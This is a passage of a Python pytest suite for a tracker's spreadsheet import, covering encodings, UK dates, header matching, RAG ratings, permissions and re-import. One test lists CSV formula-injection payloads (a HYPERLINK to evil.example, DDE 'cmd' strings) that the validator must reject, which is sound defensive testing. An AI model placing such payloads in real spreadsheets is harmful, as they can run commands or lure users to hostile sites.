"""Spreadsheet import: messy real-world files (encodings, delimiters, title rows, duplicated
headers, UK dates, Excel serials, multi-line cells, notes rows, RAG spellings) are imported with
every row either written or reported; bad files are refused with a clear reason and nothing
written; a second import of the same file updates instead of duplicating; `tracker import`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy.engine import Engine
from sqlmodel import SQLModel, col, func, select

from tests import factories
from tests.factories import SYSTEM
from tracker import db, read
from tracker.access import Viewer
from tracker.cli import main
from tracker.errors import DomainError, PermissionDeniedError
from tracker.io import imports, reading
from tracker.io.imports import ImportPreview, RowAction
from tracker.io.reading import MAX_IMPORT_BYTES, SkipReason, Table, read_table
from tracker.models import (
    Assessment,
    ConfidenceOverride,
    DeliveryConfidence,
    ImportKind,
    ImportMapping,
    Metric,
    MetricCreate,
    MetricReading,
    Milestone,
    MilestoneStatus,
    Programme,
    ProgrammeStatus,
    Role,
    Stage,
    Stakeholder,
)
from tracker.services import metrics, records

TODAY = factories.TODAY


@pytest.fixture(autouse=True)
def fixed_today(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_TODAY", TODAY.isoformat())


@dataclass
class World:
    engine: Engine
    organisation_id: int
    programme_id: int
    viewer: Viewer


def _world(engine: Engine) -> World:
    org = factories.organisation(engine, name="Northmoor Test Council", short_name="NTC")
    programme_id = factories.programme(engine, org, code="NTC-MAIN")
    factories.user(engine, [org], role=Role.manager, email="manager@example.org")
    return World(engine, org, programme_id, factories.viewer(engine, "manager@example.org"))


@pytest.fixture
def world(sqlite_engine: Engine) -> World:
    return _world(sqlite_engine)


def _count(engine: Engine, model: type[SQLModel]) -> int:
    with db.read_session(engine) as session:
        return int(session.exec(select(func.count()).select_from(model)).one())


def _counts(engine: Engine) -> dict[str, int]:
    with engine.connect() as connection:
        return {
            table.name: int(
                connection.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
            )
            for table in SQLModel.metadata.sorted_tables
        }


def _table(data: bytes, kind: ImportKind | str, filename: str = "upload.csv") -> Table:
    return read_table(data, filename, header_hints=reading.header_hints(kind))


def _preview(
    world: World, kind: ImportKind | str, table: Table, **mapping: str | None
) -> ImportPreview:
    guessed = reading.guess_mapping(kind, table.headers) | mapping
    with db.read_session(world.engine) as session:
        return imports.preview(
            session=session,
            viewer=world.viewer,
            kind=kind,
            table=table,
            mapping=guessed,
            programme_id=world.programme_id,
        )


def _commit(
    world: World, kind: ImportKind | str, table: Table, **mapping: str | None
) -> imports.ImportResult:
    guessed = reading.guess_mapping(kind, table.headers) | mapping
    with db.write_session(world.engine, actor=world.viewer.email) as session:
        return imports.commit_import(
            session=session,
            viewer=world.viewer,
            kind=kind,
            table=table,
            mapping=guessed,
            programme_id=world.programme_id,
        )


def assert_every_row_accounted(table: Table, preview: ImportPreview, last_row: int) -> None:
    """Every row below the header is imported, or reported with its row number: none is
    silently dropped."""
    planned = {plan.row for plan in preview.rows}
    skipped = set(preview.skipped_rows)
    assert not planned & skipped
    assert planned | skipped | {table.header_row} == set(range(1, last_row + 1))
    reported = {p.row for p in preview.problems}
    errors = {p.row for p in preview.errors}
    for plan in preview.rows:
        if plan.action is RowAction.skip:
            assert plan.row in reported, plan
        if plan.action is RowAction.invalid:
            assert plan.row in errors, plan
    for skipped_row in table.skipped:
        assert skipped_row.first in reported


def _milestones(engine: Engine, programme_id: int) -> dict[str, Milestone]:
    with db.read_session(engine) as session:
        rows = session.exec(select(Milestone).where(Milestone.programme_id == programme_id))
        return {m.title: m for m in rows}


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


# --- Reading messy files ----------------------------------------------------------------------


def test_a_latin1_semicolon_file_with_dotted_dates_is_imported_whole(world: World) -> None:
    text = (
        "Milestone;Phase;Owner;Deadline;Status\r\n"
        "Café opening briefing;1;Zoë Brontë;31.03.2026;In progress\r\n"
        "Déjà vu review;Test the ground;Renée;15-04-2026;not started\r\n"
        "Ménage à trois pilot;stage 3;Noël;2026-05-01;Done\r\n"
    )
    table = _table(text.encode("latin-1"), "milestones", "milestones.csv")
    assert table.delimiter == ";"
    preview = _preview(world, "milestones", table)
    assert not preview.errors, preview.errors
    assert_every_row_accounted(table, preview, last_row=4)

    result = _commit(world, "milestones", table)

    assert result.created == 3
    saved = _milestones(world.engine, world.programme_id)
    assert saved["Café opening briefing"].owner == "Zoë Brontë"
    assert saved["Café opening briefing"].due_date == dt.date(2026, 3, 31)
    assert saved["Café opening briefing"].stage is Stage.vision
    assert saved["Déjà vu review"].due_date == dt.date(2026, 4, 15)
    assert saved["Déjà vu review"].stage is Stage.test
    assert saved["Ménage à trois pilot"].status is MilestoneStatus.done
    # Done without a completed date: today's date is used, and the preview said so.
    assert saved["Ménage à trois pilot"].completed_date == TODAY
    assert any("today's date is used" in w.reason for w in preview.warnings)


def test_windows_1252_is_tried_before_latin1_and_latin1_is_the_last_resort() -> None:
    cp1252 = "Title,Owner\r\n£5 – €3 “quoted”,Zoë\r\n".encode("cp1252")
    table = read_table(cp1252, "money.csv")
    assert table.encoding == "Windows-1252"
    assert table.rows[0].cells == ("£5 – €3 “quoted”", "Zoë")

    # 0x81 is not a Windows-1252 character: only Latin-1 reads it.
    latin1 = b"Title,Owner\r\nA\x81b caf\xe9,x\r\n"
    assert read_table(latin1, "odd.csv").encoding == "Latin-1"
    assert read_table(latin1, "odd.csv").rows[0].cells[0] == "A\x81b café"


def test_a_utf8_file_with_a_byte_order_mark_reads_its_first_header(world: World) -> None:
    data = "\ufeffTitle,Stage,Due date\r\nŁódź exchange visit,2,01/06/2026\r\n".encode()
    table = _table(data, "milestones")
    assert table.headers == ("Title", "Stage", "Due date")
    assert table.encoding == "UTF-8"
    assert _commit(world, "milestones", table).created == 1
    assert "Łódź exchange visit" in _milestones(world.engine, world.programme_id)


def test_a_tab_separated_utf16_file_from_excel_unicode_text_is_read() -> None:
    data = "Title\tStage\tDue\r\nTabbed thing\t1\t02/03/2026\r\n".encode("utf-16")
    table = read_table(data, "unicode.txt")
    assert table.delimiter == "\t"
    assert table.encoding == "UTF-16"
    assert table.rows[0].cells == ("Tabbed thing", "1", "02/03/2026")


def test_the_header_is_the_first_row_of_several_words_not_a_wider_data_row() -> None:
    table = read_table(b"Plan for 2026\r\nTask,Due\r\nA,01/01/2026,extra,more\r\n", "plain.csv")
    assert (table.header_row, table.headers) == (2, ("Task", "Due"))
    assert [n.message for n in table.notices] == [
        "text in columns C and D, which have no header, was not read"
    ]


def test_duplicated_headers_are_made_unique_and_reported(world: World) -> None:
    text = _csv(
        [
            ["Title", "Owner", "Stage", "Due", "Owner"],
            ["Agree the vision", "Ann Lead", "1", "01/02/2026", "Bob Deputy"],
        ]
    )
    table = _table(text.encode(), "milestones")
    assert table.headers == ("Title", "Owner", "Stage", "Due", "Owner (2)")
    preview = _preview(world, "milestones", table)
    assert preview.mapping["owner"] == "Owner"
    warnings = [w.describe() for w in preview.warnings]
    assert any("'Owner' in column E repeats column B" in w for w in warnings)
    assert any("not imported (no field chosen): 'Owner (2)'" in w for w in warnings)
    assert not preview.errors
    _commit(world, "milestones", table)
    assert _milestones(world.engine, world.programme_id)["Agree the vision"].owner == "Ann Lead"


def test_excel_serial_numbers_and_every_uk_date_spelling_are_dates(world: World) -> None:
    rows = [
        ["Title", "Stage", "Due date"],
        ["Serial as text", "1", "46000"],
        ["Slashes", "1", "31/03/2026"],
        ["Dots", "1", "1.4.2026"],
        ["Dashes", "1", "02-04-2026"],
        ["ISO", "1", "2026-04-03"],
        ["ISO with midnight", "1", "2026-04-04 00:00:00"],
        ["Month words", "1", "5 April 2026"],
        ["Short month", "1", "06-Apr-2026"],
    ]
    table = _table(_csv(rows).encode(), "milestones")
    assert _commit(world, "milestones", table).created == 8
    saved = _milestones(world.engine, world.programme_id)
    assert saved["Serial as text"].due_date == dt.date(2025, 12, 9)
    assert [saved[row[0]].due_date for row in rows[2:]] == [
        dt.date(2026, 3, 31),
        dt.date(2026, 4, 1),
        dt.date(2026, 4, 2),
        dt.date(2026, 4, 3),
        dt.date(2026, 4, 4),
        dt.date(2026, 4, 5),
        dt.date(2026, 4, 6),
    ]


def _workbook(*sheets: tuple[str, list[list[Any]]]) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)  # type: ignore[arg-type]
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_xlsx_with_a_title_block_above_the_header_is_read_from_the_header(
    world: World,
) -> None:
    data = _workbook(
        ("Read me", [["This workbook lists our milestones."], ["Ask Ann about it."]]),
        (
            "Milestones",
            [
                ["Adult social care online: milestone plan"],
                ["Exported 14/06/2026"],
                [],
                ["Milestone", "Stage", "Due date", "Status", "Completed", "Weight"],
                [
                    "Real date cell",
                    "Vision",
                    dt.datetime(2026, 3, 31),
                    "Done",
                    dt.date(2026, 3, 30),
                    5,
                ],
                ["Serial number cell", 2, 46000, "In progress", None, 2.0],
                ["Text date cell", "influencers", "01.05.2026", "not started", None, None],
                [None, None, None, None, None, None],
                ["Notes: figures as at June"],
            ],
        ),
    )
    table = _table(data, "milestones", "plan.xlsx")
    assert table.file_format == "XLSX"
    assert table.sheet == "Milestones"
    assert table.header_row == 4
    assert [s.reason for s in table.skipped][:3] == [
        SkipReason.above_header,
        SkipReason.above_header,
        SkipReason.blank,
    ]
    preview = _preview(world, "milestones", table)
    assert not preview.errors, preview.errors
    assert_every_row_accounted(table, preview, last_row=9)
    assert any(
        "read the sheet 'Milestones'; not read: 'Read me'" in w.reason for w in preview.warnings
    )
    assert any(w.row == 9 and "reads as a note" in w.reason for w in preview.warnings)

    assert _commit(world, "milestones", table).created == 3
    saved = _milestones(world.engine, world.programme_id)
    assert saved["Real date cell"].due_date == dt.date(2026, 3, 31)
    assert saved["Real date cell"].completed_date == dt.date(2026, 3, 30)
    assert saved["Real date cell"].weight == 5
    assert saved["Serial number cell"].due_date == dt.date(2025, 12, 9)
    assert saved["Serial number cell"].stage is Stage.influencers
    assert saved["Text date cell"].due_date == dt.date(2026, 5, 1)


def test_multi_line_quoted_cells_stay_in_one_row_and_numbers_follow_the_spreadsheet(
    world: World,
) -> None:
    factories.stakeholder(world.engine, world.programme_id, name="Existing Person")
    text = _csv(
        [
            ["Name", "Role", "Notes", "Stance"],
            [
                "Dana Head",
                "Head of\nservice",
                "Met twice.\nKeen on the pilot;\nworried, too.",
                "supporter",
            ],
            ["Eli Union", "Union rep", 'Said "not yet"', "-1"],
            ["Existing Person", "Director", "", "champion"],
        ]
    )
    table = _table(text.encode(), "stakeholders")
    # The second record spans three lines of the file, yet it is row 3 as a spreadsheet shows it.
    assert [row.number for row in table.rows] == [2, 3, 4]
    preview = _preview(world, "stakeholders", table)
    assert_every_row_accounted(table, preview, last_row=4)
    assert [plan.action for plan in preview.rows] == [
        RowAction.create,
        RowAction.create,
        RowAction.update,
    ]
    _commit(world, "stakeholders", table)
    with db.read_session(world.engine) as session:
        people = {s.name: s for s in session.exec(select(Stakeholder))}
    assert people["Dana Head"].notes == "Met twice.\nKeen on the pilot;\nworried, too."
    assert people["Dana Head"].role == "Head of service"
    assert people["Dana Head"].stance == 1
    assert people["Eli Union"].stance == -1
    assert people["Existing Person"].stance == 2
    assert people["Existing Person"].role == "Director"


def test_blank_comment_and_notes_rows_are_skipped_and_each_is_reported(world: World) -> None:
    text = (
        "Title,Stage,Due date,Owner\r\n"
        "First,1,01/02/2026,Ann\r\n"
        "\r\n"
        ",,,\r\n"
        "# rows below were added in March\r\n"
        "Second,2,01/03/2026,Bob\r\n"
        "Notes: the dates are provisional,,,\r\n"
        ",,,Ann\r\n"
        "Third,3,01/04/2026,\r\n"
        "\r\n"
    )
    table = _table(text.encode(), "milestones")
    preview = _preview(world, "milestones", table)
    assert_every_row_accounted(table, preview, last_row=10)
    described = [w.describe() for w in preview.warnings]
    assert "row 3: rows 3–4 are blank: skipped" in described
    assert "row 5: row 5 is a comment (it begins with '#'): skipped" in described
    assert (
        "row 7: only its first cell has text, so it reads as a note, not a record: skipped"
        in described
    )
    assert "row 10: row 10 is blank: skipped" in described
    # Text only in an optional column is not a note: the row is missing what a milestone needs.
    assert {e.describe() for e in preview.errors} == {
        "row 8, column Title: is required",
        "row 8, column Stage: is required",
        "row 8, column Due date: is required",
    }
    with pytest.raises(DomainError, match="3 problems to fix first"):
        _commit(world, "milestones", table)
    assert _milestones(world.engine, world.programme_id) == {}


# --- Values -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("31/03/2026", dt.date(2026, 3, 31)),
        ("1/4/2026", dt.date(2026, 4, 1)),
        ("04/05/2026", dt.date(2026, 5, 4)),  # 4 May: day first, always
        ("31.03.2026", dt.date(2026, 3, 31)),
        ("31-03-2026", dt.date(2026, 3, 31)),
        ("2026-03-31", dt.date(2026, 3, 31)),
        ("2026-03-31T00:00:00", dt.date(2026, 3, 31)),
        (" 31 Mar 2026 ", dt.date(2026, 3, 31)),
        ("46000", dt.date(2025, 12, 9)),
        (46000, dt.date(2025, 12, 9)),
        (46000.5, dt.date(2025, 12, 9)),
        (dt.datetime(2026, 3, 31, 9, 30), dt.date(2026, 3, 31)),
        (dt.date(2026, 3, 31), dt.date(2026, 3, 31)),
    ],
)
def test_dates_are_read_day_first(cell: Any, expected: dt.date) -> None:
    assert reading.parse_date(cell) == expected


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        ("03/31/2026", "is not a real date"),  # US order is never guessed
        ("31/02/2026", "is not a real date"),
        ("31/03/26", "must be a date"),
        ("31/03-2026", "must be a date"),
        ("2026", "must be a date"),
        (2026, "must be a date"),
        ("next Tuesday", "must be a date"),
        (True, "must be a date"),
    ],
)
def test_things_that_are_not_dates_are_refused_with_the_format(cell: Any, reason: str) -> None:
    with pytest.raises(ValueError, match=reason):
        reading.parse_date(cell)


@pytest.mark.parametrize(
    ("cell", "stage"),
    [
        ("3", Stage.test),
        (3, Stage.test),
        (3.0, Stage.test),
        ("Stage 3", Stage.test),
        ("3. Test the ground", Stage.test),
        ("test", Stage.test),
        ("Test", Stage.test),
        ("test the ground", Stage.test),
        ("Test the ground and make decisions", Stage.test),
        ("INFLUENCERS", Stage.influencers),
        ("Engage with influencers", Stage.influencers),
        ("celebrate, reinforce", Stage.celebrate),
    ],
)
def test_a_stage_is_read_by_number_key_or_title(cell: Any, stage: Stage) -> None:
    assert reading.parse_stage(cell) is stage


@pytest.mark.parametrize("cell", ["7", "0", "planning", "3 vision", "the"])
def test_an_unknown_stage_is_refused(cell: str) -> None:
    with pytest.raises(ValueError):
        reading.parse_stage(cell)


@pytest.mark.parametrize(
    ("cell", "status"),
    [
        ("In progress", MilestoneStatus.in_progress),
        ("in-progress", MilestoneStatus.in_progress),
        ("IN_PROGRESS", MilestoneStatus.in_progress),
        ("WIP", MilestoneStatus.in_progress),
        ("Done", MilestoneStatus.done),
        ("Complete", MilestoneStatus.done),
        ("completed", MilestoneStatus.done),
        ("Not started", MilestoneStatus.not_started),
        ("to do", MilestoneStatus.not_started),
        ("Blocked", MilestoneStatus.blocked),
        ("Canceled", MilestoneStatus.cancelled),
    ],
)
def test_milestone_statuses_in_common_spellings(cell: str, status: MilestoneStatus) -> None:
    spec = next(s for s in reading.fields_for("milestones") if s.key == "status")
    assert spec.parse(cell) is status


@pytest.mark.parametrize(
    ("cell", "stance"),
    [
        ("-2", -2),
        ("+2", 2),
        (1, 1),
        ("0", 0),
        ("Active resistor", -2),
        ("passive-resistor", -1),
        ("NEUTRAL", 0),
        ("supporter", 1),
        ("Champion", 2),
    ],
)
def test_stance_as_a_number_or_words(cell: Any, stance: int) -> None:
    assert reading.parse_stance(cell) == stance


@pytest.mark.parametrize("cell", ["3", "-3", "1.5", "fan", "kind of supportive"])
def test_a_stance_out_of_scale_is_refused(cell: str) -> None:
    with pytest.raises(ValueError):
        reading.parse_stance(cell)


RATING_SPELLINGS = {
    "Amber/Green": DeliveryConfidence.amber_green,
    "Amber-Green": DeliveryConfidence.amber_green,
    "A/G": DeliveryConfidence.amber_green,
    "AG": DeliveryConfidence.amber_green,
    "AMBER GREEN": DeliveryConfidence.amber_green,
    "amber_green": DeliveryConfidence.amber_green,
    "green": DeliveryConfidence.green,
    "G": DeliveryConfidence.green,
    "Amber": DeliveryConfidence.amber,
    "Red": DeliveryConfidence.red,
    "R": DeliveryConfidence.red,
    "Amber/Red": DeliveryConfidence.amber_red,
    "A/R": DeliveryConfidence.amber_red,
    "amber – red": DeliveryConfidence.amber_red,
}


@pytest.mark.parametrize(("cell", "rating"), RATING_SPELLINGS.items())
def test_delivery_confidence_in_every_common_spelling(
    cell: str, rating: DeliveryConfidence
) -> None:
    assert reading.parse_rating(cell) is rating


@pytest.mark.parametrize("cell", ["On track", "Good", "Green/Amber", "GAR", "tbc", "3"])
def test_free_text_rating_is_not_guessed(cell: str) -> None:
    assert isinstance(reading.parse_rating(cell), reading.Unrated)


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("42", 42.0),
        ("1,234.5", 1234.5),
        ("£1,200", 1200.0),
        ("12.5%", 12.5),
        ("-3", -3.0),
        (7, 7.0),
    ],
)
def test_numbers_in_common_spellings(cell: Any, value: float) -> None:
    assert reading.parse_number(cell) == value


@pytest.mark.parametrize("cell", ["12,5", "1,23", "ten", "nan", "1.2.3"])
def test_ambiguous_or_wrong_numbers_are_refused(cell: str) -> None:
    with pytest.raises(ValueError):
        reading.parse_number(cell)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example","Click")',
        "=1+1",
        " =SUM(A1:A3)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
    ],
)
def test_cells_that_look_like_formulas_are_refused(cell: str) -> None:
    assert reading.formula_problem(cell) == "looks like a spreadsheet formula; remove it"


@pytest.mark.parametrize("cell", ["-2", "+1", "-12.5%", "-£5", "Smith-Jones", "a=b", "-", 5])
def test_numbers_and_ordinary_text_are_not_formulas(cell: Any) -> None:
    assert reading.formula_problem(cell) is None


@pytest.mark.parametrize(
    ("kind", "header", "field"),
    [
        ("milestones", "Due", "due_date"),
        ("milestones", "Due date", "due_date"),
        ("milestones", "DUE-DATE", "due_date"),
        ("milestones", "Deadline", "due_date"),
        ("milestones", "Target date", "due_date"),
        ("milestones", "Due date (dd/mm/yyyy)", "due_date"),
        ("programmes", "RAG", "confidence"),
        ("programmes", "Status RAG", "confidence"),
        ("programmes", "Status (RAG)", "confidence"),
        ("programmes", "Delivery confidence", "confidence"),
        ("programmes", "DCA", "confidence"),
        ("programmes", "SRO", "sponsor"),
        ("stakeholders", "Influence (1-5)", "influence"),
        ("assessments", "As at", "assessed_on"),
        ("readings", "KPI", "metric"),
    ],
)
def test_headers_are_matched_by_their_synonyms(kind: str, header: str, field: str) -> None:
    mapping = reading.guess_mapping(kind, ["Unrelated", header])
    assert mapping[field] == header


def test_no_header_names_two_fields_of_one_kind() -> None:
    from tracker.io.reading import header_key

    for kind in ImportKind:
        seen: dict[str, str] = {}
        for spec in reading.fields_for(kind):
            for name in (spec.key, *spec.synonyms):
                assert seen.setdefault(header_key(name), spec.key) == spec.key, (kind, name)


def test_a_saved_mapping_wins_where_its_columns_are_in_the_file() -> None:
    headers = ["Title", "When", "Deadline", "Stage"]
    mapping = reading.guess_mapping("milestones", headers, preferred={"due_date": "When"})
    assert mapping["due_date"] == "When"
    assert mapping["title"] == "Title"
    elsewhere = reading.guess_mapping("milestones", headers, preferred={"due_date": "Gone"})
    assert elsewhere["due_date"] == "Deadline"


# --- Programmes and delivery confidence -------------------------------------------------------


def test_a_portfolio_imports_with_every_rag_spelling_as_confidence_overrides(
    world: World,
) -> None:
    rows = [["Code", "Programme", "Organisation", "SRO", "Start", "End", "Status", "RAG"]]
    for n, spelling in enumerate(RATING_SPELLINGS):
        org = "NTC" if n % 2 else "Northmoor Test Council"
        rows.append(
            [
                f"P-{n}",
                f"Programme {n}",
                org,
                "Sam Sponsor",
                "01/01/2026",
                "31/12/2027",
                "Active",
                spelling,
            ]
        )
    rows.append(
        ["P-FREE", "Rated in words", "ntc", "", "01/01/2026", "31/12/2027", "live", "On track"]
    )
    rows.append(["P-NONE", "Not rated", "NTC", "", "01/01/2026", "31/12/2027", "", ""])
    table = _table(_csv(rows).encode(), "programmes", "portfolio.csv")
    preview = _preview(world, "programmes", table)
    assert not preview.errors, preview.errors
    assert_every_row_accounted(table, preview, last_row=len(rows))
    free = [w.describe() for w in preview.warnings if "not rated" in w.reason]
    assert free == [
        f"row {len(rows) - 1}, column RAG: 'On track' is not a rating (Green, Amber/Green, "
        "Amber, Amber/Red or Red): kept as not rated"
    ]

    result = _commit(world, "programmes", table)

    assert result.created == len(RATING_SPELLINGS) + 2
    assert result.confidence_overrides == len(RATING_SPELLINGS)
    with db.read_session(world.engine) as session:
        codes = dict(session.exec(select(Programme.id, Programme.code)).all())
        overrides = session.exec(select(ConfidenceOverride)).all()
        programme = session.exec(select(Programme).where(Programme.code == "P-0")).one()
        assert programme.status is ProgrammeStatus.active
        assert programme.sponsor == "Sam Sponsor"
        assert len(programme.stage_records) == 6
    rating_of = {codes[o.programme_id]: o.rating for o in overrides}
    assert rating_of == {f"P-{n}": rating for n, rating in enumerate(RATING_SPELLINGS.values())}
    assert {o.reason for o in overrides} == {"Rating imported from portfolio.csv on 15 June 2026"}
    assert {o.set_by for o in overrides} == {"manager@example.org"}

    # The same file again changes nothing and records no second override.
    again = _commit(world, "programmes", table)
    assert (again.created, again.updated, again.confidence_overrides) == (0, 0, 0)
    assert again.unchanged == len(rows) - 1
    assert _count(world.engine, ConfidenceOverride) == len(RATING_SPELLINGS)

    # A changed rating is recorded; a changed title is an update with a new version.
    rows[1][7], rows[2][1] = "Red", "Programme one, renamed"
    changed = _commit(world, "programmes", _table(_csv(rows).encode(), "programmes"))
    assert (changed.updated, changed.confidence_overrides) == (2, 1)
    assert _count(world.engine, ConfidenceOverride) == len(RATING_SPELLINGS) + 1
    with db.read_session(world.engine) as session:
        renamed = session.exec(select(Programme).where(Programme.code == "P-1")).one()
    assert (renamed.title, renamed.version) == ("Programme one, renamed", 2)


def test_programmes_are_imported_only_for_the_importers_own_organisations(world: World) -> None:
    other = factories.organisation(world.engine, name="Other Borough", short_name="OB")
    factories.programme(world.engine, other, code="OB-SECRET")
    rows = [
        ["Code", "Title", "Organisation", "Start date", "Target end date"],
        ["NEW-ONE", "Somebody else's", "Other Borough", "01/01/2026", "01/01/2027"],
        ["OB-SECRET", "Taken over", "NTC", "01/01/2026", "01/01/2027"],
        ["NTC-MAIN", "Moved", "OB", "01/01/2026", "01/01/2027"],
        ["NEW-TWO", "Nowhere", "Atlantis", "01/01/2026", "01/01/2027"],
    ]
    before = _counts(world.engine)
    preview = _preview(world, "programmes", _table(_csv(rows).encode(), "programmes"))
    assert [e.describe() for e in preview.errors] == [
        "row 2, column Organisation: you can import programmes only for your own "
        "organisations, and Other Borough is not one of them",
        "row 3, column Code: OB-SECRET is the code of a programme you cannot change",
        "row 4, column Organisation: you can import programmes only for your own "
        "organisations, and Other Borough is not one of them",
        "row 5, column Organisation: no organisation is called 'Atlantis' (its name or short name)",
    ]
    with pytest.raises(DomainError):
        _commit(world, "programmes", _table(_csv(rows).encode(), "programmes"))
    assert _counts(world.engine) == before


@pytest.mark.parametrize("role", [Role.leadership, Role.staff])
def test_only_managers_and_administrators_may_import(world: World, role: Role) -> None:
    factories.user(world.engine, [world.organisation_id], role=role, email="reader@example.org")
    reader = World(
        world.engine,
        world.organisation_id,
        world.programme_id,
        factories.viewer(world.engine, "reader@example.org"),
    )
    table = _table(b"Title,Stage,Due\r\nX thing,1,01/01/2026\r\n", "milestones")
    with pytest.raises(PermissionDeniedError):
        _preview(reader, "milestones", table)


def test_a_manager_cannot_import_into_another_organisations_programme(world: World) -> None:
    other = factories.programme(world.engine, factories.organisation(world.engine))
    elsewhere = World(world.engine, world.organisation_id, other, world.viewer)
    table = _table(b"Title,Stage,Due\r\nX thing,1,01/01/2026\r\n", "milestones")
    with pytest.raises(PermissionDeniedError):
        _commit(elsewhere, "milestones", table)
    assert _milestones(world.engine, other) == {}


# --- Re-import and the other kinds ------------------------------------------------------------


def test_importing_the_same_milestones_twice_updates_instead_of_duplicating(world: World) -> None:
    factories.milestone(world.engine, world.programme_id, title="Existing milestone", stage="equip")
    rows = [
        ["Title", "Stage", "Due date", "Status", "Weight", "Owner"],
        ["Existing MILESTONE", "4", "30/09/2026", "In progress", "5", "Ann"],
        ["Brand new", "5", "01/10/2026", "", "", ""],
    ]
    table = _table(_csv(rows).encode(), "milestones")
    first = _commit(world, "milestones", table)
    assert (first.created, first.updated, first.unchanged) == (1, 1, 0)
    second = _commit(world, "milestones", table)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 2)
    saved = _milestones(world.engine, world.programme_id)
    assert set(saved) == {"Existing milestone", "Brand new"}  # the stored spelling stays
    existing = saved["Existing milestone"]
    assert (existing.status, existing.weight, existing.owner) == (
        MilestoneStatus.in_progress,
        5,
        "Ann",
    )
    assert existing.version == 2
    assert saved["Brand new"].weight == 3  # blank: the default

    # A blank cell leaves the current value alone; a changed one updates it.
    rows[1][4], rows[1][5] = "", "Bea"
    third = _commit(world, "milestones", _table(_csv(rows).encode(), "milestones"))
    assert third.updated == 1
    existing = _milestones(world.engine, world.programme_id)["Existing milestone"]
    assert (existing.weight, existing.owner, existing.version) == (5, "Bea", 3)


def test_a_row_repeating_another_rows_title_is_an_error(world: World) -> None:
    rows = [["Title", "Stage", "Due"], ["Same", "1", "01/01/2026"], ["same ", "2", "01/02/2026"]]
    preview = _preview(world, "milestones", _table(_csv(rows).encode(), "milestones"))
    assert [e.describe() for e in preview.errors] == [
        "row 3, column Title: repeats row 2: each milestone title once per file"
    ]


def test_stakeholders_take_their_staff_group_by_name_and_warn_when_it_is_unknown(
    world: World,
) -> None:
    group = factories.staff_group(world.engine, world.organisation_id, name="Customer services")
    rows = [
        ["Stakeholder", "Department", "Influence (1-5)", "Interest", "Stance", "Desired stance"],
        ["Kim Front", "customer SERVICES", "5", "4", "Active resistor", "supporter"],
        ["Lee Back", "Finance", "2", "2", "0", "1"],
    ]
    table = _table(_csv(rows).encode(), "stakeholders")
    preview = _preview(world, "stakeholders", table)
    assert [w.describe() for w in preview.warnings] == [
        "row 3, column Department: no staff group of this programme's organisations is called "
        "'Finance': the group is left as it is"
    ]
    assert _commit(world, "stakeholders", table).created == 2
    with db.read_session(world.engine) as session:
        kim = session.exec(select(Stakeholder).where(Stakeholder.name == "Kim Front")).one()
        history = session.exec(select(Assessment).where(Assessment.stakeholder_id == kim.id)).all()
    assert (kim.staff_group_id, kim.influence, kim.stance, kim.desired_stance) == (group, 5, -2, 1)
    assert [(a.assessed_on, a.stance) for a in history] == [(TODAY, -2)]


def test_assessments_are_matched_by_stakeholder_and_date(world: World) -> None:
    jo = factories.stakeholder(world.engine, world.programme_id, name="Jo Bloggs")
    rows = [
        ["Stakeholder", "Date", "Stance", "Awareness", "Desire"],
        ["jo bloggs", "01/03/2026", "-1", "2", "1"],
        ["Jo Bloggs", "01/05/2026", "supporter", "4", ""],
        ["Nobody Known", "01/05/2026", "0", "", ""],
        ["Jo Bloggs", "01/07/2026", "2", "", ""],
    ]
    preview = _preview(world, "assessments", _table(_csv(rows).encode(), "assessments"))
    assert [e.describe() for e in preview.errors] == [
        "row 4, column Stakeholder: no stakeholder of this programme is called 'Nobody Known' "
        "(import stakeholders first)",
        "row 5, column Date: an assessment cannot be dated in the future",
    ]
    del rows[3:]
    table = _table(_csv(rows).encode(), "assessments")
    assert _commit(world, "assessments", table).created == 2
    assert _commit(world, "assessments", table).unchanged == 2
    rows[2][2] = "champion"
    assert _commit(world, "assessments", _table(_csv(rows).encode(), "assessments")).updated == 1
    with db.read_session(world.engine) as session:
        person = session.get(Stakeholder, jo)
        assert person is not None
        history = session.exec(
            select(Assessment.assessed_on, Assessment.stance, Assessment.awareness)
            .where(Assessment.stakeholder_id == jo)
            .order_by(col(Assessment.assessed_on))
        ).all()
    # The factory's first assessment is dated today (15 June), so it stays the latest.
    assert [tuple(h) for h in history] == [
        (dt.date(2026, 3, 1), -1, 2),
        (dt.date(2026, 5, 1), 2, 4),
        (TODAY, 0, None),
    ]
    assert person.stance == 0


def test_metric_readings_are_matched_by_metric_and_date(world: World) -> None:
    with db.write_session(world.engine, actor=factories.ACTOR) as session:
        metrics.define_metric(
            session=session,
            viewer=SYSTEM,
            data=records.validated(
                MetricCreate,
                {
                    "programme_id": world.programme_id,
                    "name": "Staff trained",
                    "unit": "%",
                    "baseline": 0,
                    "target": 100,
                },
            ),
        )
    rows = [
        ["KPI", "As at", "Value", "Comment"],
        ["Staff trained", "31/01/2026", "12.5%", "first cohort"],
        ["staff trained", "28/02/2026", "1,234.5", ""],
        ["Staff trained", "31/03/2026", "12,5", ""],
    ]
    preview = _preview(world, "readings", _table(_csv(rows).encode(), "readings"))
    assert [e.describe() for e in preview.errors] == [
        "row 4, column Value: must be a number; use commas only between thousands (1,234.5) "
        "and a full stop for decimals"
    ]
    rows[3][2] = "40"
    table = _table(_csv(rows).encode(), "readings")
    assert _commit(world, "readings", table).created == 3
    rows[3][2] = "45"
    again = _commit(world, "readings", _table(_csv(rows).encode(), "readings"))
